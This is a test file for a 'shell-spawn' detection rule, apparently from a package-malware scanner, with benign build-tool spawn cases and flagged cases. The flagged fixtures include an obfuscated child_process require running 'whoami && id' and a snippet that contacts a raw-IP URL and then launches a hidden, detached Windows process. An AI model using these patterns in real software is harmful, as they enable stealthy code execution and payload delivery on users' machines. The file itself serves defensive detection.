import { ruleTest } from '../../testing/rule-tester.js';
import rule from './shell-spawn.js';

ruleTest(rule, {
  clean: [
    {
      name: 'esbuild-style execFileSync of its own binary',
      file: 'lib/main.js',
      code: `const child_process = require('child_process');\nconst v = child_process.execFileSync(binPath, ['--version']).toString();\n`,
    },
    {
      name: 'node-gyp spawn without a shell',
      file: 'lib/build.js',
      code: `const { spawn } = require('child_process');\nspawn('make', ['-j4'], { stdio: 'inherit', cwd: dir });\n`,
    },
  ],
  flagged: [
    {
      name: "child_process required by a name built from constant pieces, method key split too",
      file: 'lib/x.js',
      code: `const cp = require('child_' + 'process');\ncp['exec' + 'Sync']('whoami && id', { windowsHide: true });\n`,
      findings: [{ line: 2, severity: 'low', confidence: 'low' }],
    },
    {
      name: 'build script exec (low)',
      file: 'scripts/release.js',
      code: `const { execSync } = require('child_process');\nexecSync('git tag v1.0.0 && git push --tags', { stdio: 'inherit' });\n`,
      findings: [{ line: 2, severity: 'low', confidence: 'low' }],
    },
    {
      name: 'hidden detached launch in a file that downloads',
      file: 'lib/run.js',
      code: `const { spawn } = require('child_process');
const axios = require('axios');
axios.get('http://95.164.17.24:1224/client/99').then(() => {
  spawn('cmd', ['/c', 'start', '/b', 'node', 'x.js'], { detached: true, windowsHide: true, stdio: 'ignore' }).unref();
});
`,
      findings: [{ line: 4, severity: 'high', confidence: 'medium', message: /cmd.*windowsHide, detached\+unref.*raw-IP URL/ }],
    },
  ],
});
